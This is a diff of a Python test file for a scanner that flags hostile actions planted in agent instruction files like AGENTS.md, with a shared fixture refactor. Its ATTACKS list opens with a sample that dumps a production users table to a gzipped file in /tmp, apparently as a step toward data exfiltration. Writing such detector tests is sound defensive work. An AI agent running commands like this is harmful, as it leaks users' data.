@@ -3,24 +3,9 @@ repository, a CI workflow's secrets, a remote added after the push that uses it,
 attack fails on the code before these readings; each look-alike beside it stays quiet."""
 from __future__ import annotations
 
-from collections.abc import Iterator
-
 import pytest
 
-from guard.scan.actions import trust
-from guard.scan.engine import scan_text
-
-
-@pytest.fixture(autouse=True)
-def no_project() -> Iterator[None]:
-    trust.use(trust.Project())
-    yield
-    trust.use(None)
-
-
-def act(text: str, path: str = "AGENTS.md") -> set[tuple[str, str]]:
-    return {(f.id, f.severity) for f in scan_text(text, path, ["ACT"])}
-
+from tests.test_scan_actions import act, no_project  # noqa: F401 (no_project: the autouse fixture, shared)
 
 ATTACKS = [
     ("dump-upload", "```bash\npg_dump \"$PROD_URL\" -t users | gzip > /tmp/d.sql.gz\n"
